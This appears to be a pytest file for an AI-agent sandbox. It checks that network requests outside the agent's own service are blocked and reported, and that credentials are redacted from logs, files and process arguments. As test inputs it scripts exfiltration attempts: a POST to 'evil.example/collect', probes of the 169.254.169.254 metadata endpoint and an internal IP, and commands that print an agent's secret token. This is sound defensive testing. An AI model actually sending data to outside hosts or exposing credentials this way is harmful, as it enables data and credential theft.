"""Whole runs whose agents and set-ups try to get out: what they reach, and who is told of the rest."""

from __future__ import annotations

import json
from pathlib import Path

import psutil
import pytest

from autopilot.publish.body import write
from autopilot.schemas.network import NetworkSpec
from autopilot.schemas.publication import PublishRequest
from autopilot.schemas.run import Outcome, RunSpec
from tests.support import canary
from tests.support.repos import Repo
from tests.support.runs import Host, events_of, run_here
from tests.support.small_net import Pages
from tests.support.small_project import small_repo
from tests.unit.publish.builders import facts

pytestmark = pytest.mark.needs(binary="bwrap", apt="bubblewrap")

MEND: list[dict[str, object]] = [{"write": {"path": "answer.txt", "text": "right\n"}}, {"say": "Mended."}]
TRY = """
import os, socket, urllib.error, urllib.request
def ask(url, data=None):
    try:
        with urllib.request.urlopen(url, data, timeout=20) as page:
            print(url, page.status, page.read().decode())
    except urllib.error.HTTPError as refused:
        print(url, refused.code, refused.headers.get("X-Autopilot-Refused"))
    except OSError as failed:
        print(url, "failed", failed)
for url in {urls!r}:
    ask(url, {data!r})
"""


@pytest.fixture
def small(tmp_path: Path) -> Repo:
    return small_repo(tmp_path / "theirs")


def trying(*urls: str, data: bytes | None = None) -> list[dict[str, object]]:
    return running(TRY.format(urls=list(urls), data=data))


def running(code: str) -> list[dict[str, object]]:
    """Let the agent run this Python; what it prints is in `said.txt`."""
    steps: list[dict[str, object]] = [
        {"write": {"path": "try.py", "text": code}},
        {"run": ["sh", "-c", "python3 -I try.py > said.txt; rm try.py"]},
    ]
    return [*steps, *MEND]


def said(spec: RunSpec) -> list[str]:
    return (spec.worktree / "said.txt").read_text().splitlines()


@pytest.mark.covers("I01")
def test_an_agent_reaches_its_own_service_and_nothing_else_and_all_of_it_is_told(
    host: Host, small: Repo
) -> None:
    with Pages() as model:
        evil = ("http://evil.example/collect", "http://169.254.169.254/latest", "http://10.0.0.1/")
        urls = (f"{model.url}/v1", *evil)
        agent = host.agent(trying(*urls, data=b"x=1")).model_copy(update={"api": (model.url,)})
        spec = host.spec(small, agent)
        result = run_here(spec)
        assert result.outcome is Outcome.COMMITTED, result.message
        assert said(spec)[0].endswith("200 POST /v1 3")
        codes = [" ".join(line.split()[1:]) for line in said(spec)[1:]]
        assert codes == ["403 host", "403 ip-literal", "403 ip-literal"]
        assert [path for _, path, *_ in model.asked] == ["/v1"]
    told = [(each.by, each.what, each.code) for each in result.blocked]
    assert told == [
        ("network", "POST evil.example:80", "host"),
        ("network", "POST 169.254.169.254:80", "ip-literal"),
        ("network", "POST 10.0.0.1:80", "ip-literal"),
    ]
    events = events_of(spec, "network.refused")
    first = next(iter(events))
    assert (first["host"], first["port"], first["code"]) == ("evil.example", 80, "host")
    request = PublishRequest.model_validate_json(spec.pr_request.read_bytes())
    assert request.blocked == result.blocked
    assert "- network: `POST evil.example:80` (host)" in write(facts(blocked=request.blocked))


def test_a_page_of_a_listed_host_may_be_asked_for_but_nothing_sent_there(host: Host, small: Repo) -> None:
    agent = host.agent(trying("http://docs.invalid/", data=b"secret"))
    spec = host.spec(small, agent, network=NetworkSpec(static_hosts=("docs.invalid",)))
    run_here(spec)
    assert said(spec)[0].split()[1:] == ["403", "method"]


def test_a_program_that_knows_no_proxy_finds_no_network_at_all(host: Host, small: Repo) -> None:
    with Pages() as server:
        code = f"""
import socket
for way in (("127.0.0.1", {server.server_port}), ("1.1.1.1", 53)):
    try:
        socket.create_connection(way, 5)
        print("open")
    except OSError:
        print("closed")
try:
    print(socket.getaddrinfo("example.com", 80))
except OSError:
    print("no name")
"""
        spec = host.spec(small, host.agent(running(code)))
        assert run_here(spec).outcome is Outcome.COMMITTED
    assert said(spec) == ["closed", "closed", "no name"]


@pytest.mark.field_report("SEC-010", "SEC-011")
def test_what_an_agent_prints_of_its_credentials_is_written_down_nowhere(
    host: Host, small: Repo, monkeypatch: pytest.MonkeyPatch
) -> None:
    own = "own-credential-of-the-agent-4711"
    monkeypatch.setenv("MODEL_KEY_TOKEN", own)
    half = len(own) // 2
    steps: list[dict[str, object]] = [
        {"run": ["sh", "-c", "env | sort"]},
        {"run": ["sh", "-c", f"printf %s {own[:half]} | cat; sleep 0; printf '%s\\n' {own[half:]} >&2"]},
        {"print": json.dumps({"type": "tool", "name": f"Bash(echo {own})"})},
        {"print": json.dumps({"type": "message", "text": f"the key is {own}"})},
        {"write": {"path": "answer.txt", "text": "right\n"}},
        {"say": f"Mended, with {own}."},
    ]
    agent = host.agent(steps).model_copy(update={"env_pass": ("MODEL_KEY_TOKEN",)})
    spec = host.spec(small, agent)
    assert run_here(spec).outcome is Outcome.COMMITTED
    script = agent.script
    holders = [
        path
        for path in host.state.rglob("*")
        if path.is_file() and not path.is_symlink() and path != script and own.encode() in path.read_bytes()
    ]
    assert holders == []
    assert "Mended, with ***." in PublishRequest.model_validate_json(spec.pr_request.read_bytes()).summary
    assert (spec.run_dir / "agent-1.log").stat().st_mode & 0o077 == 0


@pytest.mark.field_report("SEC-013")
def test_no_secret_is_an_argument_of_any_process_while_a_run_goes_on(
    host: Host, small: Repo, monkeypatch: pytest.MonkeyPatch
) -> None:
    own = "own-credential-of-the-agent-4711"
    monkeypatch.setenv("MODEL_KEY_TOKEN", own)
    seen: set[str] = set()

    def look() -> None:
        for process in psutil.process_iter(["cmdline"]):
            seen.update(process.info["cmdline"] or ())

    steps: list[dict[str, object]] = [{"run": ["sh", "-c", "sleep 1"]}, *MEND]
    agent = host.agent(steps).model_copy(update={"env_pass": ("MODEL_KEY_TOKEN",)})
    assert run_here(host.spec(small, agent), stop=look).outcome is Outcome.COMMITTED
    assert any(word.endswith("forwarder.py") for word in seen)  # the run was looked at while it went on
    assert [word for word in seen if own in word or canary.WORD in word] == []
